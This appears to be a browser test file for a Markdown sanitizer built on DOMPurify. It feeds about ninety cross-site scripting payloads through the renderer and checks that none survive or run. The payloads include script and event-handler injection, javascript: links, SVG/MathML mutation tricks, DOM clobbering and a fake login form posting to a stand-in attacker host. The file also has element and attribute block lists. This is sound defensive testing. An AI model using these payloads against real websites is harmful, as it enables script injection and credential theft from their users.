import {expect} from '@open-wc/testing';
import {BLOCKED_IMAGE_ATTRIBUTE, sanitizeHtml} from '../../../src/markdown/sanitize-html.js';
import {rendered} from '../../helpers/components/markdown.js';
import {nextTask, until} from '../../helpers/components/until.js';

declare global {
  interface Window {
    executed?: number;
  }
}

const RUN = 'window.executed=1';
/** Written for these tests; each tries to run RUN, to restyle the page, or to ask the reader for something. */
const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror\t=\n"${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src=x:x onerror="&#119;indow.executed=1">`,
  `<img src='x' alt="\`><img src=x onerror=${RUN}>">`,
  `<img srcset="x 1x" onload=${RUN}>`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="java&#9;script:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#106;avascript&colon;${RUN}">x</a>`,
  `<a href="&#1;javascript:${RUN}">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="blob:https://example.org/x">x</a>`,
  `<a href="https://example.org" onclick="${RUN}" onmouseover="${RUN}">x</a>`,
  `<a href="https://example.org" ping="https://tracker.example" download target="_self">x</a>`,
  `[x](javascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x]( javascript:${RUN})`,
  `[x](java%0ascript:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x][1]\n\n[1]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `![x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `![" onerror="${RUN}](x)`,
  `[a](https://example.org "x" onclick="${RUN}")`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<applet code=x></applet><frameset><frame src=x></frameset>`,
  `<video src=x onerror=${RUN}><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN} autoplay></audio>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<p onfocus=${RUN} tabindex=0 autofocus contenteditable>x</p>`,
  `<div onanimationstart=${RUN} style="animation:x 1s">x</div>`,
  `<div style="position:fixed;inset:0;background:url(https://tracker.example)">x</div>`,
  `<style>*{display:none}</style>`,
  `<style>@import "https://tracker.example"</style>`,
  `<link rel=stylesheet href="https://tracker.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><input name=password type=password><button>Log in</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select onfocus=${RUN} autofocus><option>x</option></select>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<dialog open>x</dialog><fieldset><legend>x</legend></fieldset>`,
  `<div id="helplet" name="body">x</div><img name="getElementById" id="cookie">`,
  `<a id="defaultView"></a><a id="defaultView" name="executed" href="x:1"></a>`,
  `<p class="visually-hidden callout link"></p><p class="lead" data-article="faq/x" data-copy>x</p>`,
  `<x-element onclick=${RUN} is="helplet-panel">x</x-element><helplet-panel open>x</helplet-panel>`,
  `<slot name="logo">x</slot><marquee onstart=${RUN}>x</marquee>`,
  `<table background="javascript:${RUN}"><tr><td background="x">x</td></tr></table>`,
  `<p aria-hidden="true" role="alert" data-anchor="x" popover accesskey="x" part="panel" slot="nav">x</p>`,
  `> [!NOTE]\n> <img src=x onerror=${RUN}>`,
  `| <img src=x onerror=${RUN}> |\n| --- |\n| <script>${RUN}</script> |`,
  `Text[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `[^"><img src=x onerror=${RUN}>]\n\n[^"><img src=x onerror=${RUN}>]: x`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `## <img src=x onerror=${RUN}> heading`,
  `<details><summary><script>${RUN}</script></summary></details>`,
];

const FORBIDDEN_ELEMENTS = [
  'script style link meta base iframe frame frameset object embed applet form input select textarea option fieldset legend',
  'dialog template slot noscript video audio source math foreignObject animate marquee helplet-panel x-element',
]
  .join(' ')
  .split(' ');
const HARMLESS_URL = /^(?:https?:\/\/|mailto:|tel:|#helplet=article\/|\/(?![/\\]))/;
const FORBIDDEN_ATTRIBUTES =
  /^(?:on.*|style|name|srcset|srcdoc|action|formaction|xlink:href|background|ping|is|popover|contenteditable|autofocus|accesskey|part|slot|download)$/i;

/** Everything about a tree that should not have survived. */
function harmIn(root: ParentNode): string[] {
  return [...root.querySelectorAll('*')].flatMap(element => {
    const harm: string[] = [];
    if (FORBIDDEN_ELEMENTS.includes(element.localName)) harm.push(`<${element.localName}>`);
    // Our own copy button is the only form control.
    if (element.localName === 'button' && !element.matches('figcaption > button[data-copy][type="button"]'))
      harm.push('<button>');
    for (const {name, value} of element.attributes) {
      if (FORBIDDEN_ATTRIBUTES.test(name)) harm.push(`${name}=${value}`);
      if (name === 'href' && !HARMLESS_URL.test(value)) harm.push(`href=${value}`);
      if (name === 'src' && !value.startsWith('data:image/')) harm.push(`src=${value}`);
      if (name === 'id' && !/^footnote(?:-ref)?-|^heading/.test(value)) harm.push(`id=${value}`);
    }
    return harm;
  });
}

describe('Hostile Markdown', () => {
  let errors: string[] = [];
  const onViolation = (event: Event): void => void errors.push(event.type);

  beforeEach(() => {
    errors = [];
    delete window.executed;
    document.addEventListener('securitypolicyviolation', onViolation);
  });
  afterEach(() => document.removeEventListener('securitypolicyviolation', onViolation));

  /** Puts nodes on the page, and gives them time to do what they can. */
  async function unleash(root: HTMLElement): Promise<void> {
    const host = document.createElement('div');
    host.attachShadow({mode: 'open'}).append(root);
    document.body.append(host);
    for (const element of root.querySelectorAll<HTMLElement>('*')) {
      for (const type of ['click', 'focus', 'mouseover', 'error', 'load', 'toggle', 'animationstart']) {
        if (type !== 'click' || element.localName !== 'a') element.dispatchEvent(new Event(type));
      }
    }
    await nextTask();
    host.remove();
  }

  it('is told from harmless Markdown by these tests', async () => {
    const raw = document.createElement('div');
    raw.innerHTML = `<p style="color:red" id="x"><a href="javascript:0">x</a></p><form onsubmit="return false"><button>x</button></form><img src="data:image/gif;base64,x" onerror="${RUN}">`;
    expect(harmIn(raw)).to.have.lengthOf(7);
    await unleash(raw);
    await until(() => window.executed === 1, 'the payload to run where nothing protects');
    // The picture itself fails a moment later.
    raw.querySelector('img')?.removeAttribute('onerror');
  });

  for (const payload of PAYLOADS) {
    it(`does nothing: ${payload.replace(/\s+/g, ' ').slice(0, 100)}`, async () => {
      const root = rendered(`Before.\n\n${payload}\n\nAfter.`, {headings: []});
      expect(harmIn(root)).to.deep.equal([]);
      await unleash(root);
      expect(window.executed).to.equal(undefined);
      expect(errors).to.deep.equal([]);
    });

    it(`does nothing in a line: ${payload.replace(/\s+/g, ' ').slice(0, 90)}`, async () => {
      const root = rendered(`Before ${payload} after.`, {headings: []});
      expect(harmIn(root)).to.deep.equal([]);
      await unleash(root);
      expect(window.executed).to.equal(undefined);
    });
  }

  it('does nothing all together', async () => {
    const root = rendered(PAYLOADS.join('\n\n'), {headings: []});
    expect(harmIn(root)).to.deep.equal([]);
    await unleash(root);
    expect(window.executed).to.equal(undefined);
  });

  it('cannot name the elements of the panel, or of the page', () => {
    const root = rendered('<p id="results" class="panel">x</p><a name="x" id="body">y</a>');
    expect(root.querySelectorAll('[id], [name], [class]')).to.have.lengthOf(0);
  });

  it('cannot pass for a footnote with a class or an id of its own', () => {
    const root = rendered(
      '<p id="footnote-1" class="footnotes">x</p><p id="footnote-x y" class="footnotes evil">y</p>',
    );
    expect([...root.querySelectorAll('[id]')].map(({id}) => id)).to.deep.equal(['footnote-1']);
    expect([...root.querySelectorAll('[class]')].map(({className}) => className)).to.deep.equal(['footnotes']);
  });

  it('cannot fake what the reader itself adds', () => {
    const root = rendered(
      '<a data-article="faq/x" href="https://example.org">x</a><span data-copy role="button">Copy</span>',
    );
    expect(root.querySelectorAll('[data-article], [data-copy], [role]')).to.have.lengthOf(0);
  });
});

describe('sanitizeHtml', () => {
  const clean = (html: string, imageUrl: (source: string) => string | undefined = () => undefined): HTMLElement => {
    const root = document.createElement('div');
    root.append(sanitizeHtml(html, {imageUrl, ownClass: 'own'}));
    return root;
  };

  it('gives nodes that belong to no page yet, and loads nothing', () => {
    const fragment = sanitizeHtml('<img src="https://tracker.example/p.png">', {
      imageUrl: () => undefined,
      ownClass: 'own',
    });
    expect(fragment).to.be.instanceOf(DocumentFragment);
    expect(fragment.querySelector('img')?.hasAttribute('src')).to.equal(false);
  });

  it('asks where an image may come from, and notes where it may not', () => {
    const asked: string[] = [];
    const root = clean('<img src="a.png"><img src="b.png"><img>', source => {
      asked.push(source);
      return source === 'a.png' ? 'https://cdn.example/a.png' : undefined;
    });
    expect(asked).to.deep.equal(['a.png', 'b.png', '']);
    const [allowed, blocked] = root.querySelectorAll('img');
    expect(allowed?.src).to.equal('https://cdn.example/a.png');
    expect(blocked?.getAttribute(BLOCKED_IMAGE_ATTRIBUTE)).to.equal('b.png');
    expect(blocked?.hasAttribute('src')).to.equal(false);
  });

  it('does not let an author block an image by hand', () => {
    const root = clean(`<p ${BLOCKED_IMAGE_ATTRIBUTE}="javascript:0">x</p>`);
    expect(root.innerHTML).to.equal('<p>x</p>');
  });

  it('forgets the image policy of the last article', () => {
    clean('<img src="a.png">', source => source);
    expect(clean('<img src="a.png">').querySelector('img')?.hasAttribute('src')).to.equal(false);
  });

  it('keeps classes that our own Markdown needs, whole', () => {
    const root = clean('<code class="language-c++">x</code><i class="task done">y</i><b class="task evil">z</b>');
    expect([...root.querySelectorAll('[class]')].map(({className}) => className)).to.deep.equal([
      'language-c++',
      'task done',
    ]);
  });

  it('keeps the text of what it drops', () => {
    expect(clean('<form>Name <button>Go</button></form><font>big</font>').textContent).to.equal('Name Gobig');
  });

  it('is not changed by hooks that another script adds to its own DOMPurify', async () => {
    const {default: createDOMPurify} = await import('dompurify');
    createDOMPurify.addHook('uponSanitizeElement', node => (node as Element).remove?.());
    try {
      expect(clean('<p>x</p>').innerHTML).to.equal('<p>x</p>');
    } finally {
      createDOMPurify.removeAllHooks();
    }
  });
});
